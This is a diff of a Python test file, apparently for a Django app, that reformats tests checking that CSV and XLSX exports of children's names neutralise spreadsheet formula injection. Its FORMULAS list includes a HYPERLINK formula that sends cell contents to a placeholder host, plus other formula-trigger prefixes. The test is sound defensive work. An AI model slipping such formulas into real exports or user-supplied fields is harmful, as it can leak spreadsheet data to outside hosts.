@@ -136,14 +136,7 @@ def test_the_export_costs_the_same_queries_for_many_dossiers(accepted, agent, dj
     assert len(rows) == 7
 
 
-FORMULAS = [
-    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
-    "+33 6 12",
-    "-2+3",
-    "@SOMME(A1:A9)",
-    "\tTab",
-    "\rRetour",
-]
+FORMULAS = ['=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")', "+33 6 12", "-2+3", "@SOMME(A1:A9)", "\tTab", "\rRetour"]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -151,17 +144,11 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_both_formats(accepted, a
     """A family types its child's names; an agent opens the export in a spreadsheet: nothing it typed may run."""
     Child.objects.filter(first_names="Zoé").update(first_names=name)
     service = Dossier.objects.filter(period=accepted).first().service
-    csv_content, _type = exports.dossiers_export(
-        agent=agent, service=service, period=accepted, file_format="csv"
-    )
+    csv_content, _type = exports.dossiers_export(agent=agent, service=service, period=accepted, file_format="csv")
     first_names = [row[2] for row in rows_of_csv(csv_content)[1:]]
     assert f"'{name}" in first_names
-    assert not any(
-        value.startswith(exports.FORMULA_STARTS) for row in rows_of_csv(csv_content)[1:] for value in row
-    )
-    xlsx_content, _type = exports.dossiers_export(
-        agent=agent, service=service, period=accepted, file_format="xlsx"
-    )
+    assert not any(value.startswith(exports.FORMULA_STARTS) for row in rows_of_csv(csv_content)[1:] for value in row)
+    xlsx_content, _type = exports.dossiers_export(agent=agent, service=service, period=accepted, file_format="xlsx")
     sheet = load_workbook(io.BytesIO(xlsx_content)).active
     cells = [row[2] for row in sheet.iter_rows(min_row=2)]
     assert name.replace("\r", "\n") in [cell.value for cell in cells]  # XML stores a lone CR as LF
